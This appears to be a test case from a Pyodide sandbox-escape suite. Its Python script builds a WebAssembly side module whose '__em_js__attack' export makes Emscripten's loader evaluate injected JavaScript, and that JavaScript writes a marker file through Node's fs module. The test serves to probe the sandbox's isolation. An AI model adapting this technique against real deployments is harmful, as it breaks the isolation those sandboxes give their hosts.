# id: side-module
# title: no side module is loaded, so no text in one is evaluated
# level: L1
# class: host-code
# expect: any
# control: pyodide
# evidence: marker

# A library without code whose export `__em_js__attack` points at text: Emscripten's loader evaluates that. Its one global holds the
# address of a string of ours.
import ctypes
def unsigned(number):
    out = b''
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])
def signed(number):
    out = b''
    while not -64 <= number < 64:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number & 127])
def section(kind, content):
    return bytes([kind]) + unsigned(len(content)) + content
def named(text):
    return unsigned(len(text)) + text
text = ctypes.create_string_buffer(f"(void)<::>{{}}, process.getBuiltinModule('fs').writeFileSync('{MARKER}', '')".encode())
library = b'\0asm\1\0\0\0' + section(0, named(b'dylink.0') + b'\1\4\0\0\0\0')
library += section(6, b'\1\x7f\0\x41' + signed(ctypes.addressof(text)) + b'\x0b')
library += section(7, b'\1' + named(b'__em_js__attack') + b'\3\0')
with open('/tmp/library.so', 'wb') as file:
    file.write(library)
ctypes.CDLL('/tmp/library.so')
